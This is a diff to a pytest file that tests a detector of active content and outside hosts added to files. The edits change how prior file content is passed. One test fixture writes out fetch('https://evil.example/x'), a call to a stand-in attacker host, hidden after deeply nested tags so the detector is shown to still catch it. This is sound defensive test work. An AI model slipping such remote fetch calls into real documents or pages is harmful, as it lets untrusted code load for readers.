@@ -273,7 +273,7 @@ LATER = [
 
 
 def added(text: str, before: str = "", path: str = "a.md") -> ActiveContent:
-    return added_content(path, text.encode(), before.encode())
+    return added_content(path, text.encode(), before.encode)
 
 
 def loads(found: ActiveContent) -> bool:
@@ -335,7 +335,7 @@ def test_the_character_that_completes_it_is_seen_like_the_whole(text: str) -> No
 @pytest.mark.parametrize("text", [*LOADING.values(), *RUNNING.values()])
 def test_what_was_there_before_is_not_flagged_again(text: str) -> None:
     assert added(text, text) == ActiveContent()
-    assert added_content("new.md", text.encode(), text.encode(), "old.md") == ActiveContent()
+    assert added_content("new.md", text.encode(), text.encode, "old.md") == ActiveContent()
 
 
 def test_a_second_address_at_a_host_that_is_there_already_is_flagged() -> None:
@@ -355,7 +355,7 @@ def test_an_image_that_uses_a_definition_from_before_is_flagged() -> None:
 
 
 def test_another_name_can_make_code_of_what_was_data() -> None:
-    assert added_content("a.js", b"app.x()", b"app.x()", "a.txt").code
+    assert added_content("a.js", b"app.x()", lambda: b"app.x()", "a.txt").code
 
 
 # --- law: containers hide nothing ---------------------------------------------------------------------------------------------------
@@ -489,4 +489,4 @@ def test_deep_nesting_hides_nothing() -> None:
 def test_tags_that_are_all_open_at_once_are_told_without_reading_the_text_once_for_each(tag: bytes) -> None:
     with pytest.raises(Tangled):
         read_markup((tag * 2_000).decode(), Found())
-    assert added_content("a.md", tag * 2_000 + b"\nfetch('https://evil.example/x')", b"").hosts == ("evil.example",)
+    assert added_content("a.md", tag * 2_000 + b"\nfetch('https://evil.example/x')", bytes).hosts == ("evil.example",)
